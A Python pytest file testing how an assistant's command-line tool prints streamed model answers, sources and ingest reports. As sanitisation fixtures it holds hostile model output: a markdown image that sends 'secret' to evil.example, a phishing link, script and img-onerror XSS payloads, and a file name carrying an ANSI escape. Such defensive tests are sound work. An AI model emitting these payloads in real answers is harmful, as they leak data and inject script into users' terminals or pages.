"""What the CLI prints: the answer once, sanitised model text, quotes exactly, names on one line."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console
from typer.testing import CliRunner

from assistant.answer.compose import AnswerEvent
from assistant.cli.answering import CHANGED, INCOMPLETE, AnswerPrinter
from assistant.cli.app import app
from assistant.models import Answer, Source

ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
DRAFT = ["Brad Lightcap is the COO ", "of OpenAI [3]."]
CHECKED = "Brad Lightcap is the COO of OpenAI [1]."
HOSTILE_STREAM = [
    "Sure! ![x](https://evil.example/leak?q=secret) see ",
    "[the docs](https://evil.example/phish) <script>alert(1)</script>",
    " and <img src=x onerror=alert(2)> done [1].",
]


@pytest.fixture
def corpus_index(corpus_services: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The CLI pointed at the session's index of the shipped corpus (read-only use)."""
    settings = corpus_services.settings
    monkeypatch.setenv("ASSISTANT_DATA_DIR", str(settings.data_dir))
    if settings.chroma.mode == "http":
        chroma = settings.chroma
        for key, value in {"HOST": chroma.host, "PORT": str(chroma.port), "COLLECTION": chroma.collection}.items():
            monkeypatch.setenv(f"ASSISTANT_CHROMA__{key}", value)
    return corpus_services


def terminal() -> Console:
    """A console that behaves as a terminal 100 columns wide, writing into a buffer."""
    return Console(file=io.StringIO(), force_terminal=True, width=100, markup=False, emoji=False, soft_wrap=True)


def pipe() -> Console:
    return Console(file=io.StringIO(), force_terminal=False, width=100, markup=False, emoji=False, soft_wrap=True)


def written(console: Console) -> str:
    file = console.file
    assert isinstance(file, io.StringIO)
    return file.getvalue()


def answer_with(text: str, quote: str = "Brad Lightcap, COO di OpenAI", title: str = "OpenAI e Sora") -> Answer:
    source = Source(number=1, doc_id="000.txt", title=title, quote=quote, start=10, end=10 + len(quote))
    return Answer(question="Who is OpenAI's COO?", text=text, language="en", sources=[source], backend="ollama")


def events(pieces: list[str], final: Answer | None) -> Iterator[AnswerEvent]:
    yield AnswerEvent("status", "Ollama model qwen2.5:3b")
    for piece in pieces:
        yield AnswerEvent("token", piece)
    if final is None:
        raise RuntimeError("the stream broke off")
    yield AnswerEvent("answer", answer=final)


def after_live_region(output: str) -> str:
    """What stays on a terminal below the live region: the output after it was erased for the last time."""
    return ANSI.sub("", output.rsplit("\x1b[?25h", 1)[1])


def test_on_a_terminal_the_draft_streams_and_the_checked_answer_replaces_it() -> None:
    out, err = terminal(), pipe()
    answer = AnswerPrinter(out=out, err=err).consume(events(DRAFT, answer_with(CHECKED)))

    assert answer.text == CHECKED
    shown = written(out)
    assert "of OpenAI [3]." in ANSI.sub("", shown.rsplit("\x1b[?25h", 1)[0])  # streamed in the live region
    final = after_live_region(shown)
    assert final.count(CHECKED) == 1 and "[3]" not in final  # replaced, printed once
    assert "Sources:" in final and "“Brad Lightcap, COO di OpenAI”" in final
    assert CHANGED in written(err) and "[Ollama model qwen2.5:3b]" in written(err)


def test_on_a_terminal_an_unchanged_answer_gets_no_correction_note() -> None:
    out, err = terminal(), pipe()
    AnswerPrinter(out=out, err=err).consume(events(["Brad Lightcap is the COO of OpenAI [1]."], answer_with(CHECKED)))

    assert after_live_region(written(out)).count(CHECKED) == 1
    assert CHANGED not in written(err)


def test_off_a_terminal_only_the_checked_answer_is_printed() -> None:
    out, err = pipe(), pipe()
    AnswerPrinter(out=out, err=err).consume(events(DRAFT, answer_with(CHECKED)))

    shown = written(out)
    assert "\x1b" not in shown
    assert shown.count(CHECKED) == 1 and "[3]" not in shown
    assert shown.startswith(CHECKED + "\n")
    assert CHANGED not in written(err)


@pytest.mark.parametrize("console", [terminal, pipe])
def test_the_raw_model_stream_never_reaches_the_terminal_unsanitised(console: Any) -> None:
    out, err = console(), pipe()
    final = answer_with("".join(HOSTILE_STREAM))  # even a final text that escaped the pipeline's checks

    AnswerPrinter(out=out, err=err).consume(events(HOSTILE_STREAM, final))

    shown = written(out)
    for leak in ("evil.example", "https:", "<script", "alert(", "<img", "onerror", "!["):
        assert leak not in shown, leak
    assert "the docs" in ANSI.sub("", shown) and "done [1]." in ANSI.sub("", shown)  # the text itself stays


def test_quotes_are_printed_exactly_never_as_emoji_codes_or_markup() -> None:
    quote = "admin:x:1001:1001:[bold]Admin[/bold] :smile: [link=https://x.example]x[/link]:/home/admin"
    title = "passwd [red]dump[/red] :x:"
    out, err = pipe(), pipe()

    AnswerPrinter(out=out, err=err).consume(events([], answer_with("The admin account is listed [1].", quote, title)))

    shown = written(out)
    assert f"    “{quote}”" in shown.splitlines()
    assert f"[1] {title} — 000.txt, chars 10-{10 + len(quote)}" in shown.splitlines()
    assert "❌" not in shown and "😄" not in shown


def test_a_failure_mid_stream_shows_the_sanitised_partial_answer_marked_incomplete() -> None:
    out, err = pipe(), pipe()

    with pytest.raises(RuntimeError, match="broke off"):
        AnswerPrinter(out=out, err=err).consume(events([*DRAFT, " See https://evil.example"], None))

    shown = written(out)
    assert shown.index("of OpenAI [3].") < shown.index(INCOMPLETE)
    assert "evil.example" not in shown and "Sources:" not in shown


def test_json_mode_prints_nothing_while_collecting() -> None:
    out, err = terminal(), pipe()
    answer = AnswerPrinter(stream=False, out=out, err=err).consume(events(DRAFT, answer_with(CHECKED)))
    assert answer.text == CHECKED and written(out) == "" and written(err) == ""


def test_ingest_report_prints_file_names_escaped_on_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "bad\nname\x1b[31m.pdf").write_bytes(b"%PDF-nonsense")

    result = CliRunner().invoke(app, ["ingest", str(folder)])

    assert result.exit_code == 1, result.output
    skipped = [line for line in result.stderr.splitlines() if line.startswith("skipped")]
    assert len(skipped) == 1 and f"{folder}/bad\\nname\\x1b[31m.pdf: " in skipped[0]
    assert "\x1b" not in result.stderr and "failed 1" in result.stdout


@pytest.mark.slow
def test_cli_ask_prints_the_answer_once(corpus_index: Any) -> None:
    question = "Chi ha detto che Sora è stato lanciato troppo presto?"
    result = CliRunner().invoke(app, ["ask", "--backend", "embedded", question])

    assert result.exit_code == 0, result.output
    answer_text = result.stdout.split("\n\nSources:")[0]
    assert "Lightcap" in answer_text and result.stdout.count(answer_text) == 1
    assert result.stdout.count("Sources:") == 1 and "checked answer" not in result.stdout
    as_json = CliRunner().invoke(app, ["ask", "--json", "--backend", "embedded", "Chi è il COO di OpenAI?"])
    assert Answer.model_validate_json(as_json.stdout).sources
